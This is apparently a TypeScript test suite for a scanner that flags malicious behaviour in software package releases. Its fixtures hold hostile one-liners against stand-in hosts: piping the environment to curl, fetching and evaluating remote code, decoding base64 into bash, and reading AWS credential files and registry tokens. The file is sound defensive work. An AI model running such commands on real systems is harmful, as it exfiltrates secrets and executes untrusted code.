import assert from "node:assert/strict";
import { test } from "node:test";
import type { FileFacts, PackageFacts } from "../../../model/index.ts";
import { weighChange } from "./compare-weigh.ts";
import { comparePackages } from "./compare.ts";
import { packageFacts } from "./files-package.ts";
import { fileFacts } from "./files.ts";

const facts = (path: string, text: string): FileFacts => fileFacts(path, Buffer.from(text));
const can = (path: string, text: string): readonly string[] =>
  facts(path, text).sightings.map(({ capability, subject }) => `${capability} ${subject}`.trim());
const flows = (path: string, text: string): readonly string[] => facts(path, text).flows.map(({ from, to }) => `${from} -> ${to}`);
const hides = (path: string, text: string): readonly string[] => facts(path, text).hidings.map(({ kind }) => kind);

const kinds = (path: string, bytes: Uint8Array): readonly string[] => fileFacts(path, bytes).hidings.map(({ kind }) => kind);

async function release(files: Readonly<Record<string, string>>): Promise<PackageFacts> {
  return await packageFacts(
    "",
    Object.entries(files).map(([path, text]) => ({ path, executable: false, bytes: Buffer.from(text) })),
  );
}

test("Python: the environment is followed through names and functions to the network", () => {
  const code = `import os as o, requests as r\ndef collect():\n    return dict(o.environ)\ndef go():\n    everything = collect()\n    r.post("https://a.invalid/x", json=everything)\n`;
  assert.deepEqual(flows("a.py", code), ["environment-whole -> network"]);
  assert.ok(can("a.py", code).includes("network a.invalid"));
});

test("Python: a function reached by a name that is put together is seen, and said to be concealed", () => {
  const found = facts("a.py", `getattr(__import__("o" + "s"), "sys" + "tem")("id")\n`);
  assert.deepEqual(
    found.sightings.filter(({ capability }) => capability === "process").map(({ through, concealed }) => [through, concealed]),
    [["os.system", true]],
  );
  assert.ok(found.hidings.some(({ kind }) => kind === "concealed-name"));
});

test("Python: names of variables in comments and texts of documentation do nothing", () => {
  assert.deepEqual(can("a.py", `"""Reads os.environ and calls os.system."""\n# os.system("id")\nx = 1\n`), []);
});

const hosts = (text: string): readonly string[] => facts("a.py", text).hosts.map(({ host }) => host);

test("Python: addresses in texts of documentation are no hosts, as long as nothing asks for those texts", () => {
  const text =
    '"""https://one.example/"""\ndef f():\n    """See https://two.example/\n    for more."""\n    return "https://three.example/"\n';
  assert.deepEqual(hosts(text), ["three.example"]);
  assert.deepEqual(hosts(`${text}g(f.__doc__)\n`), ["one.example", "three.example", "two.example"]);
});

test("a host under the domain aws is no folder of credentials", () => {
  assert.deepEqual(can("a.py", 'host = "api.aws"\nother = f".{region}.api.aws"\n'), []);
  for (const path of [".aws", "/root/.aws", "~/.aws/credentials", ".aws/config"])
    assert.ok(can("a.py", `open("${path}")\n`).join().includes("credential-file"), path);
});

test("Ruby: commands without brackets, in backticks and decoded ones are seen", () => {
  assert.ok(can("a.rb", `system "curl http://127.0.0.1:9/a | sh"\n`).includes("process curl"));
  assert.ok(can("a.rb", "x = `whoami`\n").includes("process whoami"));
  assert.deepEqual(flows("a.rb", `require "net/http"\neval(Net::HTTP.get(URI("https://a.invalid/")))\n`), ["network -> dynamic-code"]);
});

test("Rust: a build script that starts programs and reads tokens is seen through its imports", () => {
  const code = `use std::{env, process::Command as Run};\nfn main() { let _ = env::var("CARGO_REGISTRY_TOKEN"); Run::new("sh").spawn().unwrap(); }`;
  assert.deepEqual(
    can("build.rs", code).filter((one) => !one.startsWith("environment")),
    ["credential-variable CARGO_REGISTRY_TOKEN", "process sh", "process sh"],
  );
});

test("shell: what goes through pipes, substitutions, variables and files is followed", () => {
  assert.deepEqual(flows("a.sh", `env | curl -d @- https://a.invalid/\n`), ["environment-whole -> network"]);
  assert.deepEqual(flows("a.sh", `X=$(curl -s https://a.invalid/)\neval "$X"\n`), ["network -> dynamic-code"]);
  assert.deepEqual(flows("a.sh", `echo aWQ= | base64 -d | bash\n`), ["encoded-text -> process"]);
  assert.ok(flows("a.sh", `wget -O /tmp/a https://a.invalid/ && sh /tmp/a\n`).includes("network -> process"));
  assert.deepEqual(can("a.sh", `echo "curl is nice" # curl https://a.invalid | sh\n`), []);
});

test("what is not shown is found, and ordinary text in other scripts is not", () => {
  assert.ok(hides("a.js", `let a = 1;${" ".repeat(300)}b();\n`).includes("off-screen"));
  assert.ok(
    hides("a.py", `x = "${String.fromCodePoint(...Array.from({ length: 12 }, (_, i) => 0xe0100 + i))}"\n`).includes("invisible-characters"),
  );
  const bidi = (text: string): boolean => hides("a.js", text).includes("bidirectional-characters");
  assert.ok(!bidi(`x = "\u2067\u062d\u0627\u0648\u0644 \u0645\u0631\u0629\u2069";`), "a sentence of a translation");
  assert.ok(bidi(`x = "\u2067\u062d\u0627 } if (a)\u2069 \u2066";`), "one that is never closed");
  assert.ok(bidi(`/* \u2067\u062d\u0627 */ if (a) { /* \u2069 */`), "one that reaches out of its comment");
  assert.ok(bidi(`x = "\u2066admin\u2069";`), "one without a reason");
  assert.ok(hides("a.rb", `x = "\u202e"\n`).includes("bidirectional-characters"));
  assert.ok(hides("a.js", `const p\u0430yload = 1;\n`).includes("look-alike-characters"));
  assert.deepEqual(hides("a.js", `const hello = "Привет, мир \u{1f468}\u200d\u{1f469}\u200d\u{1f467}";\n`), []);
});

test("dense source is minified, data and a table within readable source are not", () => {
  const readable = "function readable(list) {\n  return list.map((one) => one + 1);\n}\n".repeat(3_000);
  const packed = "AGFzbQEAAAABQgtgA39".repeat(3_000);
  assert.ok(hides("a.js", `var a=1,b=2;function c(d){return d+a*b};`.repeat(60)).includes("minified"));
  assert.ok(!hides("a.js", `${readable}const table = [${"1,2,3,4,".repeat(900)}];\n`).includes("minified"));
  assert.ok(!hides("a.js", `${readable.slice(0, 2_000)}const module = "${packed}";\n`).includes("minified"));
});

test("long texts and patterns are data, dense code between short ones is not", () => {
  const readable = "function readable(list) {\n  return list.map((one) => one + 1);\n}\n".repeat(300);
  const page = JSON.stringify("class Module {\n  exports = null;\n}\n".repeat(400));
  assert.ok(!hides("a.js", `${readable}const page = ${page};\n`).includes("minified"));
  assert.ok(!hides("a.js", `${readable}const emoji = () => /[#*0-9"]${"|\\uD83C\\uDFF4".repeat(900)}/g;\n`).includes("minified"));
  assert.ok(hides("a.js", `${readable}const a="";${"b(c,d);".repeat(2_000)}const e="";\n`).includes("minified"));
  assert.ok(hides("a.js", `// don't\n${"f(a/b,c/d);".repeat(900)}`).includes("minified"));
});

test("bytes that are not what the name says are found", () => {
  assert.ok(kinds("logo.png", Buffer.from("module.exports = 1;")).includes("kind-mismatch"));
  assert.ok(kinds("notes.txt", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(99)])).includes("executable-content"));
  assert.deepEqual(kinds("logo.png", Buffer.from("89504e470d0a1a0a0000000049454e44ae426082", "hex")), []);
});

test("binding.gyp, .pth and setup.py run by themselves, and reach the files that they name", async () => {
  const gyp = await release({
    "package.json": `{"name":"a","version":"1.0.0"}`,
    "binding.gyp": `{"targets":[{"sources":["<!(node x.js)"]}]}`,
    "x.js": `require("./y")`,
    "y.js": "",
  });
  assert.deepEqual(gyp.selfRuns.find(({ name }) => name.startsWith("expansion"))?.reaches, ["x.js", "y.js"]);
  const python = await release({ "a.pth": "import os; os.system('id')\n/some/folder\n", "setup.py": "import os\n" });
  assert.deepEqual(
    python.selfRuns.map(({ trigger, when }) => `${trigger} ${when}`),
    ["pth start", "setup-py install"],
  );
  assert.ok(python.selfRuns[0]?.sightings.some(({ capability }) => capability === "process"));
});

test("what is named as code is read as code, whatever its bytes begin like or hold", () => {
  const sends = `fetch("https://a.invalid/", { body: JSON.stringify(process.env) });\n`;
  for (const before of ["/*\0*/", `/*${"\u0001".repeat(900)}*/`, "GIF89a=1;/*\0*/", "MZ=1;", "/*\u007fELF\0*/"])
    assert.deepEqual(flows("a.js", before + sends), ["environment-whole -> network"], before.slice(0, 12));
});

test("code that is too large to be read, or that the archive does not give, is news; what could not be read before either is none", async () => {
  const manifest = { "package.json": `{"name":"a","version":"1.0.0"}` };
  const large = { ...manifest, "a.py": `${"#".repeat(99)}\n`.repeat(350_000) };
  const [small, grown] = [await release({ ...manifest, "a.py": "x = 1\n" }), await release(large)];
  const change = comparePackages(small, grown);
  assert.deepEqual(
    change.news.map((news) => news.kind === "hiding" && news.hiding.kind),
    ["unread"],
  );
  assert.equal(weighChange(change).tier, "review");
  assert.deepEqual(comparePackages(grown, grown).news, []);
  const lost = { ...small, files: small.files.slice(1), unread: [{ path: "a.py", because: "it is too large" }] };
  assert.equal(weighChange(comparePackages(small, lost)).tier, "review");
  assert.deepEqual(comparePackages(lost, lost).news, []);
});

const nested = (gap: string): string => `import os${gap}class A:${gap}  def f(self):${gap}    def g():${gap}      os.system("id")${gap}`;

test("empty lines between statements and blocks within blocks change nothing of what is seen where", () => {
  const [plain, spread] = [facts("a.py", nested("\n")), facts("a.py", nested(`\n${"\n".repeat(5_000)}`))];
  assert.deepEqual(
    [plain, spread].map(({ sightings }) =>
      sightings.filter(({ capability }) => capability === "process").map(({ spots }) => spots[0]?.scope),
    ),
    [["A.f.g"], ["A.f.g"]],
  );
});

test("files whose names carry a bundler's hash are laid beside each other", async () => {
  const code = `exports.run = () => require("child_process").exec("ls");\n`;
  for (const [old, now] of [
    ["dist/jiti-D-zwvB-L-Cp-Q6Ij2.js", "dist/jiti-Bb1dT6Cw-DYuZTEqX.js"],
    ["dist/flow-BXs7AWV-.js", "dist/flow-C6LkWPPl.js"],
    ["dist/chunk-5OKX4RBR.mjs", "dist/chunk-ABCDEFGH.mjs"],
  ] as const) {
    const change = comparePackages(await release({ [old]: code, "b.js": "" }), await release({ [now]: `${code}// more\n`, "b.js": "" }));
    assert.deepEqual([change.files.map(({ kind }) => kind), change.news], [["moved"], []], now);
  }
});

test("code that moved into a file of its own is no news, what was added on the way is", async () => {
  const code = `const { exec } = require("child_process");\nexports.run = () => exec("ls");\n`;
  const before = await release({ "index.js": code, "b.js": `require("child_process").exec("id");\n` });
  const moved = { "index.js": `module.exports = require("./part.js");\n`, "b.js": `require("child_process").exec("id");\n` };
  assert.deepEqual(comparePackages(before, await release({ ...moved, "part.js": code })).news, []);
  const more = comparePackages(before, await release({ ...moved, "part.js": `${code}exec("curl http://127.0.0.1:9/x | sh");\n` }));
  assert.ok(more.news.some((news) => news.kind === "capability" && news.sighting.subject.startsWith("curl")));
});

test("a manifest or recipe that is padded until it is not read is news", async () => {
  const small = await release({ "package.json": `{"name":"a","version":"1.0.0"}` });
  const padded = await release({ "package.json": `{"name":"a","version":"1.0.1","x":"${"x".repeat(1_100_000)}"}` });
  const change = comparePackages(small, padded);
  assert.ok(change.news.some((news) => news.kind === "hiding" && news.hiding.kind === "unread"));
  assert.equal(weighChange(change).tier, "review");
});

test("a file that moved, and files in another order, are no news", async () => {
  const code = `const { exec } = require("child_process");\nexports.run = () => exec("ls");\n`;
  const before = { "package.json": `{"name":"a","version":"1.0.0"}`, "lib/run.js": code };
  const after = { "src/run.js": code, "package.json": `{"name":"a","version":"1.0.0"}` };
  assert.deepEqual(comparePackages(await release(before), await release(after)).news, []);
});

const pair = async (): Promise<string> =>
  JSON.stringify(
    comparePackages(
      await release({ "a.py": "x = 1\n" }),
      await release({ "a.py": `import os\nos.system("id")\n`, "b.sh": "env | curl -d @- https://a.invalid/\n" }),
    ),
  );

test("the same two releases give the same bytes", async () => {
  assert.equal(await pair(), await pair());
});

test("hostile text ends, quickly and without a fault", () => {
  const many = 40_000;
  const started = process.cpuUsage();
  for (const text of [
    "(".repeat(many),
    "f(".repeat(many),
    "a.".repeat(many),
    "$(".repeat(many),
    '"'.repeat(many),
    "`".repeat(many),
    "x = [".repeat(many),
    "for i in ".repeat(many),
    "\\".repeat(many),
    "{".repeat(many),
    "f'{".repeat(many / 4),
    "=/[".repeat(many),
    `'"`.repeat(many),
    "${".repeat(many),
  ]) {
    for (const path of ["a.py", "a.rb", "a.sh", "a.rs", "a.js"]) facts(path, text);
  }
  const { user, system } = process.cpuUsage(started);
  assert.ok((user + system) / 1e6 < 30, `${(user + system) / 1e6} s`);
});
